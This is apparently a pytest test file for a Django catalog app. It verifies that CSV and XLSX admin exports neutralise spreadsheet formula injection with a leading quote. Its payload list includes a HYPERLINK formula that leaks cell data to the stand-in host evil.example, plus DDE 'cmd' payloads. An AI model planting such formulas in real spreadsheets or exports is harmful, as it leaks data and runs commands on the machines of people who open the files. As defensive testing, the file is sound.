"""Exports cannot carry a formula: a product named ``=HYPERLINK(...)`` is exported as text
(with a leading ``'``) in CSV and XLSX, never as a live formula; numbers stay numbers; every
admin that exports uses the neutralising resource base, so a new export is covered too."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.contrib import admin as django_admin
from import_export.admin import ExportMixin
from openpyxl import load_workbook

from apps.catalog.resources import ProductResource
from apps.core.exports import SafeExportResource, neutralize_cell, restore_cell
from apps.pricing.models import Price, PriceList
from apps.pricing.resources import PriceResource
from tests.catalog.factories import ProductFactory

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_gets_a_leading_quote_and_comes_back_on_import(payload):
    assert neutralize_cell(payload) == "'" + payload
    assert restore_cell(neutralize_cell(payload)) == payload


@pytest.mark.parametrize(
    "value",
    [
        "LED Panel 40 W",
        "",
        "-5",
        "+12.5000",
        "-0,5",
        "1e-3",
        "'quoted already",
        -5,
        Decimal("-3.3000"),
        None,
        True,
    ],
)
def test_plain_values_and_numbers_are_left_alone(value):
    assert neutralize_cell(value) == value
    assert restore_cell(value) == value


def test_every_admin_export_uses_the_neutralising_resource():
    exporting = [
        model_admin
        for model_admin in django_admin.site._registry.values()
        if isinstance(model_admin, ExportMixin)
    ]
    assert exporting, "no admin exports anything: this test would prove nothing"
    offenders = [
        (type(model_admin).__name__, resource.__name__)
        for model_admin in exporting
        for resource in model_admin.get_export_resource_classes(request=None)
        if not issubclass(resource, SafeExportResource)
    ]
    assert offenders == [], "base these resources on apps.core.exports.SafeExportResource"


# --- over HTTP, through the admin's export view ----------------------------------------------

PRODUCTS = "/admin/catalog/product/"
PRICES = "/admin/pricing/price/"
EVIL = '=HYPERLINK("http://evil.example","click")'
XLSX_FORMAT = "1"  # the admins offer [CSV, XLSX]


def export(client, url, resource, fmt):
    data = {"format": fmt, "resource": "0"}
    prefix = resource.__name__.lower()
    data.update({f"{prefix}_{name}": "on" for name in resource.Meta.export_order})
    response = client.post(f"{url}export/", data)
    assert response.status_code == 200, response.content[:300]
    return response.content


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes) -> dict[str, list]:
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    return {name: [row[i] for row in rows[1:]] for i, name in enumerate(headers)}


@pytest.fixture
def evil_product(db):
    return ProductFactory(sku="-EVIL-1", name=EVIL, description="@SUM(A1:A9)")


@pytest.mark.django_db
def test_a_product_export_in_csv_writes_formula_names_as_text(staff_client, evil_product):
    rows = csv_rows(export(staff_client(superuser=True), PRODUCTS, ProductResource, "0"))
    row = next(r for r in rows if r["sku"] == "'-EVIL-1")
    assert row["name"] == "'" + EVIL
    assert row["description"] == "'@SUM(A1:A9)"
    assert row["vat_rate"] == str(evil_product.vat_rate)


@pytest.mark.django_db
def test_a_product_export_in_xlsx_has_no_formula_cell(staff_client, evil_product):
    content = export(staff_client(superuser=True), PRODUCTS, ProductResource, XLSX_FORMAT)
    columns = xlsx_cells(content)
    every_cell = [cell for cells in columns.values() for cell in cells]
    assert every_cell and all(cell.data_type != "f" for cell in every_cell)
    (name,) = [cell for cell in columns["name"] if EVIL in str(cell.value)]
    assert name.value == "'" + EVIL and name.data_type == "s"


@pytest.mark.django_db
def test_a_price_export_neutralises_text_and_keeps_amounts(staff_client, evil_product):
    Price.objects.create(
        price_list=PriceList.objects.get(code="LIST"),
        product=evil_product,
        amount=Decimal("12.5000"),
    )
    client = staff_client("Sales Manager")
    rows = csv_rows(export(client, PRICES, PriceResource, "0"))
    assert [(r["sku"], r["product_name"], r["amount"]) for r in rows] == [
        ("'-EVIL-1", "'" + EVIL, "12.5000")
    ]
    columns = xlsx_cells(export(client, PRICES, PriceResource, XLSX_FORMAT))
    assert [cell.data_type for cells in columns.values() for cell in cells].count("f") == 0
    assert columns["product_name"][0].value == "'" + EVIL
